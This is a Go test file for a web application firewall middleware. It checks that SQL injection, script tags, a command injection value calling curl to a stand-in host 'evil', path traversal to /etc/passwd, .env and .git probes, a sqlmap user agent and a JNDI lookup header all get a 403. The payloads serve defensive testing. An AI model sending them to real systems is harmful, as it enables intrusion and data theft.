package waf

import (
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
)

var okHandler = http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
	w.WriteHeader(http.StatusOK)
})

func quietLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(io.Discard, nil))
}

func newFilter(cfg Config) http.Handler {
	return NewMiddleware(cfg, quietLogger())(okHandler)
}

func serve(h http.Handler, r *http.Request) int {
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, r)
	return rec.Code
}

func TestDisabledPassesEverything(t *testing.T) {
	t.Parallel()

	h := newFilter(Config{})
	r := httptest.NewRequest(http.MethodGet, "/code?number=1'+OR+'1'='1", nil)
	if got := serve(h, r); got != http.StatusOK {
		t.Fatalf("status = %d", got)
	}
}

func TestBlocksAttackPayloads(t *testing.T) {
	t.Parallel()

	h := newFilter(Config{Enabled: true})
	tests := []struct {
		name string
		uri  string
		ua   string
		hdr  [2]string
	}{
		{name: "sql tautology", uri: "/code?number=947'%20OR%20'1'='1"},
		{name: "union select", uri: "/code?number=1+UNION+SELECT+*+FROM+creds"},
		{name: "double encoded", uri: "/code?number=%253Cscript%253E"},
		{name: "script tag", uri: "/code?number=<script>alert(1)</script>"},
		{name: "shell", uri: "/code?number=947;curl+evil"},
		{name: "traversal", uri: "/code/../../etc/passwd"},
		{name: "env probe", uri: "/.env"},
		{name: "git probe", uri: "/.git/config"},
		{name: "scanner", uri: "/code?number=947", ua: "sqlmap/1.7"},
		{name: "jndi header", uri: "/code/active", hdr: [2]string{"X-Api-Version", "${jndi:ldap://x/a}"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := httptest.NewRequest(http.MethodGet, "/", nil)
			r.RequestURI = tt.uri
			u, err := url.Parse(tt.uri)
			if err != nil {
				t.Fatal(err)
			}
			r.URL = u
			if tt.ua != "" {
				r.Header.Set("User-Agent", tt.ua)
			}
			if tt.hdr[0] != "" {
				r.Header.Set(tt.hdr[0], tt.hdr[1])
			}
			if got := serve(h, r); got != http.StatusForbidden {
				t.Fatalf("status = %d, want 403", got)
			}
		})
	}
}

func TestAllowsLegitimateTraffic(t *testing.T) {
	t.Parallel()

	h := newFilter(Config{Enabled: true})
	for _, uri := range []string{
		"/code?number=94771234567",
		"/code?number=%2B94+77+123+4567",
		"/code/active",
		"/code/config/94771234567",
		"/.well-known/acme-challenge/token",
	} {
		r := httptest.NewRequest(http.MethodGet, uri, nil)
		r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)")
		r.Header.Set("Authorization", "Bearer s3cr3t;cat")
		if got := serve(h, r); got != http.StatusOK {
			t.Fatalf("%s: status = %d", uri, got)
		}
	}
}

func TestExemptPathsAndLimits(t *testing.T) {
	t.Parallel()

	h := newFilter(Config{Enabled: true, Exempt: []string{"/healthz"}})
	r := httptest.NewRequest(http.MethodGet, "/healthz?x=<script>", nil)
	if got := serve(h, r); got != http.StatusOK {
		t.Fatalf("exempt status = %d", got)
	}

	long := httptest.NewRequest(http.MethodGet, "/code?number="+strings.Repeat("9", maxURILength), nil)
	if got := serve(h, long); got != http.StatusForbidden {
		t.Fatalf("long uri status = %d", got)
	}

	many := httptest.NewRequest(http.MethodGet, "/code/active", nil)
	for i := range maxHeaderCount + 1 {
		many.Header.Set("X-Pad-"+strings.Repeat("a", i+1), "v")
	}
	if got := serve(h, many); got != http.StatusForbidden {
		t.Fatalf("many headers status = %d", got)
	}
}

func TestAuditOnlyReportsAndPasses(t *testing.T) {
	t.Parallel()

	var (
		mu  sync.Mutex
		got []string
	)
	h := newFilter(Config{Enabled: true, AuditOnly: true, OnMatch: func(rule string) {
		mu.Lock()
		got = append(got, rule)
		mu.Unlock()
	}})
	r := httptest.NewRequest(http.MethodGet, "/wp-login.php", nil)
	if code := serve(h, r); code != http.StatusOK {
		t.Fatalf("status = %d", code)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(got) != 1 || got[0] != "sensitive-file-probe" {
		t.Fatalf("matches = %v", got)
	}
}
